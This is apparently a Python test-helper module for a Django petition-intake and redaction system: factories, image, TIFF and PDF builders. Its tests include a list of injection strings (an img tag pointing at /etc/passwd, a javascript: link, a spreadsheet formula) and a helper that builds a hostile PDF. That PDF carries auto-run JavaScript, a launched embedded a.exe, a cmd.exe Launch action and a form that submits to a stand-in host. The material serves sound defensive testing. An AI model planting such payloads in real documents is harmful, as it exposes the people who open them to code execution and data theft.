"""factory_boy factories and small file builders shared by the suite."""

import datetime as dt
import io
import re
from pathlib import Path

import factory
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from PIL import Image, ImageDraw

from documentos.models import Area, Escrito, Tema, VersionPublica
from documentos.services.recepcion import DatosRecepcion
from documentos.testado import tipos


class UsuarioFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = get_user_model()
        django_get_or_create = ("username",)
        skip_postgeneration_save = True

    username = factory.Sequence(lambda n: f"usuario{n}")
    first_name = factory.Faker("first_name", locale="es_MX")
    last_name = factory.Faker("last_name", locale="es_MX")
    password = factory.PostGenerationMethodCall("set_password", "clave-de-prueba")

    @factory.post_generation
    def roles(self, create, extracted, **kwargs):
        for nombre in extracted or ():
            # get_or_create: a transactional test's flush empties the groups' data migration.
            self.groups.add(Group.objects.get_or_create(name=nombre)[0])

    @factory.post_generation
    def areas(self, create, extracted, **kwargs):
        for area in extracted or ():
            area.personal.add(self)
        if create:
            self.save()


class AreaFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Area
        django_get_or_create = ("nombre",)

    nombre = factory.Sequence(lambda n: f"Dirección {n}")
    siglas = factory.Sequence(lambda n: f"D{n}")


class TemaFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Tema
        django_get_or_create = ("nombre",)

    nombre = factory.Sequence(lambda n: f"Tema {n}")


class IndicadorFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = "atencion.Indicador"

    nombre = factory.Sequence(lambda n: f"Indicador {n}")


class ActividadFactory(factory.django.DjangoModelFactory):
    """An atencion.Actividad; `cortes=[(fecha, avance), ...]` adds its seguimientos."""

    class Meta:
        model = "atencion.Actividad"
        skip_postgeneration_save = True

    nombre = factory.Sequence(lambda n: f"Actividad {n}")
    meta = factory.LazyAttribute(lambda a: f"Meta de {a.nombre}")
    indicador = factory.SubFactory(IndicadorFactory)
    inicio = dt.date(2026, 1, 1)
    fin = dt.date(2026, 12, 31)

    @factory.post_generation
    def cortes(self, create, extracted, **kwargs):
        from atencion.models import Seguimiento

        for fecha, avance in extracted or ():
            Seguimiento.objects.create(actividad=self, fecha=fecha, avance=avance)


def imagen_bytes(formato="PNG", tamano=(400, 300), texto="Solicitud de prueba") -> bytes:
    imagen = Image.new("L", tamano, 255)
    ImageDraw.Draw(imagen).text((20, 20), texto, fill=0)
    salida = io.BytesIO()
    imagen.save(salida, formato)
    return salida.getvalue()


def pdf_bytes(paginas=1, texto="Solicitud de prueba") -> bytes:
    hojas = [Image.open(io.BytesIO(imagen_bytes(texto=f"{texto} {n}"))) for n in range(paginas)]
    salida = io.BytesIO()
    hojas[0].convert("RGB").save(
        salida, "PDF", save_all=True, append_images=[h.convert("RGB") for h in hojas[1:]]
    )
    return salida.getvalue()


def subida(nombre: str, contenido: bytes, tipo="application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(nombre, contenido, content_type=tipo)


def tareas_con(backend: str) -> dict:
    """A TASKS setting with another django-tasks backend and the project's queues."""
    from django.conf import settings

    return {"default": {"BACKEND": backend, "QUEUES": settings.TASKS["default"]["QUEUES"]}}


def datos_recepcion(**cambios) -> DatosRecepcion:
    """What a clerk types at the window, with sensible defaults; one scan unless given."""
    valores = {
        "tipo": Escrito.Tipo.PETICION,
        "canal": Escrito.Canal.VENTANILLA,
        "remitente_tipo": Escrito.TipoPersona.FISICA,
        "remitente_nombre": "María López Hernández",
        "asunto": "Solicitud de bacheo en la calle Juárez",
        "remitente_sexo": Escrito.Sexo.MUJER,
    }
    valores.update(cambios)
    if "archivos" not in valores:
        valores["archivos"] = [subida("escaneo.png", imagen_bytes(texto=valores["asunto"]))]
    return DatosRecepcion(**valores)


def version_aprobada(
    escrito,
    textos=None,
    *,
    testar=(),
    asunto=None,
    estado=VersionPublica.Estado.APROBADA,
    anunciar=True,
) -> VersionPublica:
    """Data factory: a versión pública written straight through the ORM (APROBADA unless
    `estado` says otherwise). It skips the testado itself: no detection, no boxes, no burned
    images or public PDF (those are tested where they are made).

    Its pages are `textos` (one per page of the escrito's first file) or else the escrito's
    finished OCR pages; in both, and in the asunto (given, or the escrito's), every item of
    `testar` is replaced by tipos.MARCA, whatever its case. Announced like the real approval
    (documentos.eventos.escrito_cambiado: the search outbox follows it) unless `anunciar` is
    False (for rows made directly, as the search suite's corpus is)."""
    from documentos import eventos
    from ocr.selectors import textos_por_archivo

    def testado(texto: str) -> str:
        for dato in testar:
            texto = re.sub(re.escape(dato), tipos.MARCA, texto, flags=re.IGNORECASE)
        return texto

    archivos = list(escrito.archivos.order_by("orden", "pk").values_list("pk", flat=True))
    if textos is not None:
        paginas = [(archivos[0], n, t) for n, t in enumerate(textos, start=1)]
    else:
        leidos = textos_por_archivo(archivos)
        paginas = [(a, n, t) for a in archivos for n, t in leidos.get(a, [])]
    aprobada = estado == VersionPublica.Estado.APROBADA
    version = VersionPublica.objects.create(
        escrito=escrito,
        estado=estado,
        huella="0" * 64,
        asunto=testado(escrito.asunto if asunto is None else asunto),
        fundamento=tipos.fundamento(),
        aprobada_en=timezone.now() if aprobada else None,
        paginas=[{"archivo_id": a, "numero": n, "texto": testado(t)} for a, n, t in paginas],
    )
    if anunciar:
        eventos.escrito_cambiado(escrito.pk)
    return version


def _plegada(texto: str) -> str:
    import unicodedata

    sin_acentos = unicodedata.normalize("NFKD", texto).encode("ascii", "ignore").decode()
    return "".join(c for c in sin_acentos.lower() if c.isalnum())


def cajas_de(pagina: tipos.PaginaLeida, texto: str, margen: int = 4) -> list[tipos.Caja]:
    """One box (with a margin) around each run of the words of `texto` as the OCR read
    them on this page, accents and case ignored; a run over several lines gets one box per
    line, as detection makes them."""
    buscadas = [_plegada(p) for p in texto.split() if _plegada(p)]
    leidas = [_plegada(p.texto) for p in pagina.palabras]
    cajas = []
    for i in range(len(leidas) - len(buscadas) + 1):
        if leidas[i : i + len(buscadas)] != buscadas:
            continue
        lineas: list[list[tipos.Caja]] = []
        for palabra in pagina.palabras[i : i + len(buscadas)]:
            if not lineas or palabra.caja.x < lineas[-1][-1].x:
                lineas.append([])
            lineas[-1].append(palabra.caja)
        for linea in lineas:
            x0 = max(min(c.x for c in linea) - margen, 0)
            y0 = max(min(c.y for c in linea) - margen, 0)
            x1 = min(max(c.x + c.ancho for c in linea) + margen, pagina.ancho)
            y1 = min(max(c.y + c.alto for c in linea) + margen, pagina.alto)
            cajas.append(tipos.Caja(x0, y0, x1 - x0, y1 - y0))
    return cajas


def version_por_revisar(escrito, sugerencias=(), *, asunto=None) -> VersionPublica:
    """Data factory: a versión pública POR_REVISAR written through the ORM, as
    services.version_publica.preparar leaves it, on an escrito whose files were read by the
    real OCR: its fingerprint comes from the page source (so it can be approved, burned and
    published for real). Each item of `sugerencias` is (text, categoria, motivo): one
    suggested box per line of every place the OCR read that text (detection's job, faked
    here by naming the words). Fails when the OCR did not read a text where it was asked."""
    from documentos.models import CajaTestada
    from documentos.services.version_publica import archivos_de
    from documentos.testado.fuente import fuente

    ids = [a.pk for a in archivos_de(escrito)]
    leidas = fuente().paginas_leidas(ids)
    assert set(leidas) == set(ids), "every file of the escrito must have been read"
    version = VersionPublica.objects.create(
        escrito=escrito,
        huella=fuente().huella(ids),
        asunto=escrito.asunto if asunto is None else asunto,
    )
    cajas = []
    for texto, categoria, motivo in sugerencias:
        encontradas = [
            (pagina, caja)
            for archivo_id in ids
            for pagina in leidas[archivo_id]
            for caja in cajas_de(pagina, texto)
        ]
        assert encontradas, f"the OCR did not read {texto!r}"
        cajas += [
            CajaTestada(
                version=version,
                archivo_id=pagina.archivo_id,
                pagina=pagina.numero,
                x=caja.x,
                y=caja.y,
                ancho=caja.ancho,
                alto=caja.alto,
                categoria=categoria,
                origen=CajaTestada.Origen.DETECCION,
                motivo=motivo,
            )
            for pagina, caja in encontradas
        ]
    CajaTestada.objects.bulk_create(cajas)
    return version


# Texts that are markup or formulas to reportlab and spreadsheets: every export must show
# them literally (PDF) or neutralised (CSV, XLSX).
TEXTOS_HOSTILES = (
    "A<B",
    '<img src="/etc/passwd">',
    '<a href="javascript:alert(1)">x</a>',
    "<font size=100>",
    "&amp; &lt;b&gt; &#60; &nbsp;",
    '=HYPERLINK("http://x")',
)


def imagen_en_disco(carpeta) -> str:
    """A real PNG on the server's disk (what an <img src> payload would pull into a PDF)."""
    ruta = carpeta / "escaneo-privado.png"
    ruta.write_bytes(imagen_bytes(tamano=(40, 40), texto="X"))
    return f'<img src="{ruta}" width="20" height="20"/>'


def hash_sin_clave(entrada) -> str:
    """The bitácora's version-1 hash (plain sha256): what anyone can compute without the key."""
    from copy import copy

    from documentos.models import EntradaBitacora
    from documentos.services.bitacora import calcular_hash

    sin_clave = copy(entrada)
    sin_clave.version = EntradaBitacora.Version.SHA256
    return calcular_hash(sin_clave)


def tiff_bytes(tamanos, compresion="tiff_deflate") -> bytes:
    """A multi-page TIFF, one page per (width, height)."""
    hojas = [Image.new("L", tamano, 255) for tamano in tamanos]
    salida = io.BytesIO()
    hojas[0].save(salida, "TIFF", save_all=True, append_images=hojas[1:], compression=compresion)
    return salida.getvalue()


def tiff_con_pagina_danada(paginas: int, danada: int) -> bytes:
    """A TIFF whose page `danada` (1-based) has garbage instead of compressed pixels."""
    contenido = bytearray(tiff_bytes([(300, 300)] * paginas))
    with Image.open(io.BytesIO(bytes(contenido))) as imagen:
        imagen.seek(danada - 1)
        tiras = zip(imagen.tag_v2[273], imagen.tag_v2[279], strict=True)  # offsets, counts
        for inicio, largo in tiras:
            contenido[inicio : inicio + largo] = b"\x13" * largo
    return bytes(contenido)


def imagen_ruido_bytes(lado: int, semilla: int = 0) -> bytes:
    """A valid PNG that does not compress: about lado * lado bytes."""
    import random

    azar = random.Random(semilla)
    imagen = Image.frombytes("L", (lado, lado), azar.randbytes(lado * lado))
    salida = io.BytesIO()
    imagen.save(salida, "PNG")
    return salida.getvalue()


def pdf_pikepdf(construir=None, cajas=((612, 792),)) -> bytes:
    """A PDF with visible text and a black box on each page; `construir(pdf)` may add more."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name

    pdf = pikepdf.new()
    fuente = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for ancho, alto in cajas:
        hoja = pdf.add_blank_page().obj
        hoja.MediaBox = Array([0, 0, ancho, alto])  # any size, even one the spec forbids
        hoja.Resources = Dictionary(Font=Dictionary(F1=fuente))
        hoja.Contents = pdf.make_stream(
            b"0 0 0 rg 72 500 200 60 re f BT /F1 24 Tf 72 650 Td (Solicitud de prueba) Tj ET"
        )
    if construir is not None:
        construir(pdf)
    salida = io.BytesIO()
    pdf.save(salida)
    return salida.getvalue()


def con_contenido_activo(pdf) -> None:
    """JavaScript, automatic actions, a Launch link, embedded files and an XFA form: what
    a hostile PDF carries. A web link (URI) and the visible page stay."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    def js(codigo):
        return Dictionary(S=Name.JavaScript, JS=String(codigo))

    hoja = pdf.pages[0].obj
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("inicio"), pdf.make_indirect(js("app.alert(1)"))])
        )
    )
    pdf.Root.OpenAction = js("this.exportDataObject({cName: 'a.exe', nLaunch: 2})")
    pdf.Root.AA = Dictionary(WC=js("app.alert(2)"))
    hoja.AA = Dictionary(O=js("app.alert(3)"))
    lanzar = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 72, 200, 100]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=js("app.alert(4)")),
    )
    enlace = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 120, 200, 140]),
        A=Dictionary(S=Name.URI, URI=String("https://www.example.gob.mx/tramites")),
    )
    adjunto = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([400, 700, 420, 720]),
        FS=pikepdf.AttachedFileSpec(pdf, b"Documento anexo", filename="b.doc").obj,
    )
    boton = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Btn,
        T=String("enviar"),
        Rect=Array([300, 72, 400, 100]),
        A=Dictionary(S=Name.SubmitForm, F=String("https://malo.example/recibir")),
        AA=Dictionary(E=js("app.alert(5)")),
    )
    boton = pdf.make_indirect(boton)
    hoja.Annots = Array([pdf.make_indirect(a) for a in (lanzar, enlace, adjunto)] + [boton])
    pdf.Root.AcroForm = Dictionary(Fields=Array([boton]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ programa", filename="a.exe")


def sobrescribir_guardado(archivo, contenido: bytes) -> None:
    """Replace a stored file's bytes: a row kept from before a check existed."""
    storage, nombre = archivo.archivo.file.storage, archivo.archivo.file.name
    with open(storage.path(nombre), "wb") as fichero:
        fichero.write(contenido)


def archivos_privados() -> set[Path]:
    """Every file in private storage (scans and answers)."""
    raiz = Path(settings.PRIVATE_MEDIA_ROOT)
    return {p for p in raiz.rglob("*") if p.is_file()} if raiz.exists() else set()
